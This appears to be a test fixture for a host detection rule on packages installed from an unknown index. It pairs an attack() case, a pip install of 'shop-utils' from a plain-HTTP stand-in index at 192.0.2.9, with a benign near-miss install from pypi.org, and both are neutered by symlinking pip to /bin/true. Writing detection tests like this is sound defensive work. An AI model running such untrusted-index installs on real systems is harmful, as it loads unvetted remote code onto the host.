# rule: Packages installed from an unknown index
# where: host
attack() {
    ln -s /bin/true pip
    ./pip install --extra-index-url http://192.0.2.9/simple shop-utils
}
near_miss() {
    ln -s /bin/true pip
    ./pip install --index-url https://pypi.org/simple requests
}
